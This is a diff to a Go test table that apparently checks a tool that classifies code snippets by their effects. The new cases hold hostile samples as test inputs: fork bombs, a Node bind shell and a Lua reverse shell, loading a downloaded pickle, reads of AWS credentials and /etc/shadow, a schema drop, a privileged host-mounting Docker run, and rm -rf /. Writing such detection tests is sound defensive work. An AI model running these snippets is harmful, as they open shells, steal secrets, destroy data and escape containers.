@@ -448,6 +448,34 @@ return /a/;})();`, []string{"sh: /bin/sh", "connect 10.0.0.1:4242", "download 10
 	{"bash", `rm -rf /`, []string{"sh: rm -rf /"}},
 	{"python3.12", `import os; os.remove("/x")`, []string{"delete /x"}},
 	{"cobol", `DISPLAY "HI"`, []string{"unknown"}},
+	// Issue 26 tuning: fork bombs, unpickled downloads, asyncio sockets,
+	// Node and languages not parsed read for the reverse-shell shape.
+	{"python", "import os\nwhile True:\n    os.fork()", []string{"unknown"}},
+	{"python", `while 1: __import__("os").fork()`, []string{"unknown"}},
+	{"python", "import os\nfor i in range(4):\n    os.fork()", nil},
+	{"perl", `fork while fork`, []string{"unknown"}},
+	{"python", `import pickle, urllib.request; pickle.loads(urllib.request.urlopen("http://h.example/o.pkl").read())`,
+		[]string{"connect http://h.example/o.pkl", "download http://h.example/o.pkl | pickle"}},
+	{"python", `import asyncio
+async def main():
+    r, w = await asyncio.open_connection("10.0.0.1", 8443)`, []string{"connect 10.0.0.1:8443"}},
+	{"node", `sh = require("child_process").spawn("/bin/sh"); require("net").createServer(function (c) { c.pipe(sh.stdin); sh.stdout.pipe(c); }).listen(4444)`,
+		[]string{"download :4444 | sh", "sh: /bin/sh"}},
+	{"lua", `local s=require("socket"); local t=assert(s.tcp()); t:connect("10.0.0.1",4444); while true do local r=t:receive(); local f=io.popen(r) end`,
+		[]string{"unknown", "download 10.0.0.1:4444 | sh"}},
+	{"lua", `print("hello")`, []string{"unknown"}},
+	{"ruby", `puts File.read(File.expand_path("~/.aws/credentials"))`, []string{"read /home/a/.aws/credentials"}},
+	{"node", `const path = require("path"); require("fs").readFileSync(path.join("/etc", "shadow"))`, []string{"read /etc/shadow"}},
+	{"python", `import psycopg2; psycopg2.connect("host=db").cursor().execute("DROP SCHEMA public CASCADE")`,
+		[]string{"run sql DROP SCHEMA public CASCADE"}},
+	{"python", "import sqlite3\ncon = sqlite3.connect(\"dev.db\")\ncon.execute(\"DROP TABLE IF EXISTS t\")",
+		[]string{"read /w/dev.db", "write /w/dev.db"}},
+	{"python", "import configparser\nc = configparser.ConfigParser()\nc.read(\"/home/a/.aws/credentials\")",
+		[]string{"read /home/a/.aws/credentials"}},
+	{"python", "import docker\ndocker.from_env().containers.run(\"alpine\", \"id\", privileged=True, volumes={\"/\": {\"bind\": \"/host\"}})",
+		[]string{"run docker run --privileged -v /:/host"}},
+	{"python", "import urllib.request, zipfile, io\nz = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen(\"https://h.example/t.zip\").read()))\nz.extractall(\"/tmp/t\")",
+		[]string{"connect https://h.example/t.zip", "write -r /tmp/t", "download https://h.example/t.zip > /tmp/t"}},
 }
 
 func TestCodeTable(t *testing.T) {
